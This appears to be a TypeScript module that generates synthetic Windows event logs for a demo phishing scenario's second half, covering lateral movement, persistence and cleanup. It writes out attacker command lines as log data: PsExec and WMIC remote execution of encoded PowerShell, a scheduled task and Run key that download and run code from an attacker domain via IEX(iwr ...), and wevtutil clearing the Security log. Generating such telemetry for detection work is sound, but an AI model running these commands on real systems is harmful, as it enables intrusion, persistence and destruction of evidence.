import { encodedCommand } from './attack-scenario.ts';
import { COMPANY, type Employee, type Machine } from './demo-company.ts';
import {
  type DemoLine,
  type DemoWorld,
  domainUser,
  processStart,
  securityEvent,
  sysmonEvent,
  windowsEvent,
} from './demo-line.ts';
import type { PhishingCast } from './phishing-cast.ts';

// The second half of the phishing scenario: from the first workstation to two servers, and staying there.

const SYSTEM32 = 'C:\\Windows\\System32\\';
const POWERSHELL = `${SYSTEM32}WindowsPowerShell\\v1.0\\powershell.exe`;
const PSEXEC_SERVICE = 'C:\\Windows\\PSEXESVC.exe';
const REMOTE = encodedCommand('Get-ChildItem -Recurse D:\\Shares | Out-File C:\\Windows\\Temp\\l.txt');
const SYSTEM = { user: 'NT AUTHORITY\\SYSTEM', integrity: 'System' } as const;

type Later = (seconds: number) => number;

function networkLogon(
  { company, random }: DemoWorld,
  from: Machine,
  target: Machine,
  timeMs: number,
): DemoLine {
  const admin = company.administrators[0] as Employee;
  return securityEvent(timeMs, target, 4624, {
    SubjectUserName: '-',
    SubjectDomainName: '-',
    TargetUserName: admin.account,
    TargetDomainName: COMPANY.windowsDomain,
    TargetUserSid: admin.sid,
    TargetLogonId: `0x${random.hex(7)}`,
    LogonType: 3,
    AuthenticationPackageName: 'NTLM',
    WorkstationName: from.name,
    IpAddress: from.ip,
    IpPort: random.whole(49_152, 65_000),
  });
}

/** PsExec to the file server: a share, a service, a pipe, a shell. */
export function psexecMove(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { random, company } = world;
  const { host, user, server } = cast;
  const admin = company.administrators[0] as Employee;
  return [
    processStart(world, later(90), host, {
      image: 'C:\\Users\\Public\\psexec64.exe',
      originalFileName: 'psexec.c',
      commandLine: `psexec64.exe \\\\${server.name} -accepteula -s -d cmd.exe /c powershell.exe -enc ${REMOTE}`,
      parentImage: POWERSHELL,
      user,
      integrity: 'High',
    }),
    networkLogon(world, host, server, later(2)),
    securityEvent(later(1), server, 5145, {
      SubjectUserName: admin.account,
      SubjectDomainName: COMPANY.windowsDomain,
      ObjectType: 'File',
      ShareName: '\\\\*\\ADMIN$',
      RelativeTargetName: 'PSEXESVC.exe',
      IpAddress: host.ip,
      IpPort: random.whole(49_152, 65_000),
      AccessMask: '0x2',
    }),
    windowsEvent(
      later(1),
      server,
      { id: 7045, channel: 'System', provider: 'Service Control Manager' },
      {
        ServiceName: 'PSEXESVC',
        ImagePath: '%SystemRoot%\\PSEXESVC.exe',
        ServiceType: 'user mode service',
        StartType: 'demand start',
        AccountName: 'LocalSystem',
      },
    ),
    ...psexecService(world, server, later),
  ];
}

function psexecService(world: DemoWorld, server: Machine, later: Later): DemoLine[] {
  return [
    processStart(world, later(1), server, {
      ...SYSTEM,
      image: PSEXEC_SERVICE,
      originalFileName: 'psexesvc.exe',
      commandLine: PSEXEC_SERVICE,
      parentImage: `${SYSTEM32}services.exe`,
    }),
    sysmonEvent(later(1), server, 17, {
      ProcessGuid: `{${world.random.uuid()}}`,
      ProcessId: 3320,
      EventType: 'CreatePipe',
      PipeName: '\\PSEXESVC',
      Image: PSEXEC_SERVICE,
      User: SYSTEM.user,
    }),
    processStart(world, later(2), server, {
      ...SYSTEM,
      image: `${SYSTEM32}cmd.exe`,
      commandLine: `cmd.exe /c powershell.exe -enc ${REMOTE}`,
      parentImage: PSEXEC_SERVICE,
    }),
  ];
}

/** WMI to the database server. */
export function wmiMove(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { host, user, second } = cast;
  return [
    processStart(world, later(120), host, {
      image: `${SYSTEM32}wbem\\WMIC.exe`,
      originalFileName: 'wmic.exe',
      commandLine: `wmic.exe /node:${second.name} process call create "powershell.exe -enc ${REMOTE}"`,
      parentImage: POWERSHELL,
      user,
      integrity: 'High',
    }),
    networkLogon(world, host, second, later(2)),
    processStart(world, later(2), second, {
      image: POWERSHELL,
      originalFileName: 'PowerShell.EXE',
      commandLine: `powershell.exe -enc ${REMOTE}`,
      parentImage: `${SYSTEM32}wbem\\WmiPrvSE.exe`,
      user: domainUser(world.company.administrators[0] as Employee),
      integrity: 'High',
    }),
  ];
}

/** A scheduled task on the server, a Run key on the workstation; then the log is cleared. */
export function persistence(world: DemoWorld, cast: PhishingCast, later: Later): DemoLine[] {
  const { server, domain, host, user } = cast;
  const task = '\\Microsoft\\Windows\\Shell\\CacheTask';
  const action = `powershell.exe -w hidden -c IEX(iwr http://${domain}/k)`;
  return [
    processStart(world, later(60), server, {
      ...SYSTEM,
      image: `${SYSTEM32}schtasks.exe`,
      commandLine: `schtasks.exe /create /sc minute /mo 30 /tn "${task}" /tr "${action}" /ru SYSTEM /f`,
      parentImage: `${SYSTEM32}cmd.exe`,
    }),
    securityEvent(later(1), server, 4698, {
      SubjectUserSid: 'S-1-5-18',
      SubjectUserName: `${server.name}$`,
      SubjectDomainName: COMPANY.windowsDomain,
      TaskName: task,
      TaskContent: `<Task><Triggers><TimeTrigger><Repetition><Interval>PT30M</Interval></Repetition></TimeTrigger></Triggers><Actions><Exec><Command>${action}</Command></Exec></Actions></Task>`,
    }),
    sysmonEvent(later(20), host, 13, {
      ProcessGuid: `{${world.random.uuid()}}`,
      ProcessId: 7044,
      EventType: 'SetValue',
      Image: POWERSHELL,
      User: user,
      TargetObject: `HKU\\${cast.victim.sid}\\Software\\Microsoft\\Windows\\CurrentVersion\\Run\\CacheTask`,
      Details: action,
    }),
    processStart(world, later(90), server, {
      ...SYSTEM,
      image: `${SYSTEM32}wevtutil.exe`,
      commandLine: 'wevtutil.exe cl Security',
      parentImage: `${SYSTEM32}cmd.exe`,
    }),
    windowsEvent(
      later(1),
      server,
      { id: 1102, channel: 'Security', provider: 'Microsoft-Windows-Eventlog' },
      { SubjectUserSid: 'S-1-5-18', SubjectUserName: 'SYSTEM', SubjectDomainName: 'NT AUTHORITY' },
    ),
  ];
}
